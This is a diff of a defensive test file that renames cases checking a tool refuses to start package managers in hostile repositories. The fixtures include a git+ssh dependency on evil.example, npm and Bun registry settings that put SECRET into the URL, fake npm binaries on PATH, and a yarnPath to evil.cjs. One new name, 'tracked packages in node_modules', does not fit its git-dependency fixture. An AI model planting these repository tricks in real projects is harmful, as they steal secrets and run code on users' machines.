@@ -7,7 +7,7 @@ const notStarted = /The package manager was not started\. Next: run (?:npm|pnpm|
 /** Repositories whose package manager runs programs, sends variables or writes through links. None of them is started. */
 export const installProjects: readonly Attack[] = [
   {
-    name: 'packages of npm out of git',
+    name: 'tracked packages in node_modules',
     files: manifest({ devDependencies: { x: 'git+ssh://git@evil.example/x.git' } }),
     registry: {},
     run: add,
@@ -15,7 +15,7 @@ export const installProjects: readonly Attack[] = [
     message: notStarted,
   },
   {
-    name: 'settings of npm that send a variable',
+    name: 'npm settings that send a variable',
     files: { '.npmrc': 'registry=ADDRESS/${SECRET}\n' },
     registry: {},
     run: add,
@@ -23,7 +23,7 @@ export const installProjects: readonly Attack[] = [
     message: notStarted,
   },
   {
-    name: 'npm of the project in PATH',
+    name: 'npm in the project folder on PATH',
     files: { 'node_modules/.bin/npm': evil, 'bin/npm': evil },
     registry: {},
     run: add,
@@ -31,7 +31,7 @@ export const installProjects: readonly Attack[] = [
     message: notStarted,
   },
   {
-    name: 'npm of the project in PATH, with --install',
+    name: 'npm in the project folder on PATH, with --install',
     files: { 'node_modules/.bin/npm': evil, 'bin/npm': evil },
     registry: {},
     run: [...add, '--install'],
@@ -40,7 +40,7 @@ export const installProjects: readonly Attack[] = [
     message: /Some package managers still run scripts of git dependencies/,
   },
   {
-    name: 'packages that are a link to the folder of git',
+    name: 'packages behind a link into the .git folder',
     links: { node_modules: '.git' },
     git: true,
     files: manifest({ devDependencies: { hooks: 'npm:@evil/hooks@1.0.0' } }),
@@ -50,7 +50,7 @@ export const installProjects: readonly Attack[] = [
     message: notStarted,
   },
   {
-    name: 'a hook of pnpm',
+    name: 'a pnpm hook',
     files: { '.pnpmfile.cjs': 'x', 'pnpm-lock.yaml': '' },
     registry: {},
     run: add,
@@ -58,7 +58,7 @@ export const installProjects: readonly Attack[] = [
     message: notStarted,
   },
   {
-    name: 'settings of Yarn that name a program',
+    name: 'Yarn settings that name a program',
     files: { '.yarnrc.yml': 'yarnPath: ./evil.cjs\n', 'yarn.lock': '__metadata:\n' },
     registry: {},
     run: add,
@@ -66,7 +66,7 @@ export const installProjects: readonly Attack[] = [
     message: notStarted,
   },
   {
-    name: 'variables of Bun',
+    name: 'Bun environment variables',
     files: { '.env': 'BUN_CONFIG_REGISTRY=ADDRESS/$SECRET/\n', 'bun.lock': '{}' },
     registry: {},
     run: add,
@@ -74,7 +74,7 @@ export const installProjects: readonly Attack[] = [
     message: notStarted,
   },
   {
-    name: 'an old package manager by its version',
+    name: 'an old package manager, detected by its version',
     files: manifest({ packageManager: 'yarn@1.19.2' }),
     registry: {},
     run: add,
@@ -82,7 +82,7 @@ export const installProjects: readonly Attack[] = [
     message: notStarted,
   },
   {
-    name: 'the packages of an update',
+    name: 'packages that an update needs',
     files: manifest({ dependencies: { react: '^19.0.0', tailwindcss: '^4.0.0' } }),
     before: 'card is added',
     registry: {},
@@ -91,7 +91,7 @@ export const installProjects: readonly Attack[] = [
     message: notStarted,
   },
   {
-    name: 'the packages of a removal',
+    name: 'packages of a removed item',
     before: 'card is added',
     registry: {},
     run: ['remove', 'card', '--prune'],
